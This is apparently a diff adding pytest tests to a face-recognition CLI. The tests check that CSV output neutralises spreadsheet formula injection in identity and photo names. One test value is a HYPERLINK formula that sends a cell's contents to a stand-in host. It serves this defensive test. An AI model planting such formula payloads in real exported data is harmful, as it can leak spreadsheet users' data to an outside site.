@@ -343,3 +343,34 @@ def test_empty_folder(cli, shared_data, scrfd, random_recognizer, knn_gallery, t
     clean_error(result, 1, f"{broken}: none of the 2 photos could be read")
     assert "warning: unreadable photos, skipped (2):" in result.output
     assert not out.exists() and not list(tmp_path.glob(".*.tmp"))  # no empty result file left behind
+
+
+def test_csv_cells_that_look_like_formulas_stay_text(cli, shared_data, scrfd, random_recognizer, tmp_path):
+    """An identity folder named =HYPERLINK(...) and a photo named -1+1.jpg: recognize --format csv writes both with a
+    leading ' (OWASP's CSV-injection rule), so a spreadsheet shows them as text instead of running them; JSON lines
+    keep the names as they are."""
+    import csv
+
+    name = '=HYPERLINK("x.example?"&A1,"click")'
+    people = tmp_path / "people"
+    copy(shared_data / OBAMA, people / name / "a.jpg")
+    photo = copy(shared_data / OBAMA, tmp_path / "probe" / "-1+1.jpg")
+    db = tmp_path / "g.h5"
+    assert cli("build-db", people, scrfd, random_recognizer, db).exit_code == 0
+    out = tmp_path / "out.csv"
+    result = cli("recognize", photo.parent, db, scrfd, random_recognizer, "--format", "csv", "--out", out)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(out.read_text(encoding="utf-8").splitlines()))
+    assert rows[1][0] == str(photo)  # an absolute path starts with /, not a formula character
+    assert "'" + name in [row[-2] for row in rows[1:]], rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in (row[0], row[-2]))
+    jsonl = cli("recognize", photo, db, scrfd, random_recognizer)
+    assert the_face(json.loads(jsonl.stdout))["identity"] == name
+
+
+def test_csv_text_rule():
+    from facekit.gallery.recognize import csv_text
+
+    assert [csv_text(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "obama", "")] == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "obama", ""
+    ]  # fmt: skip
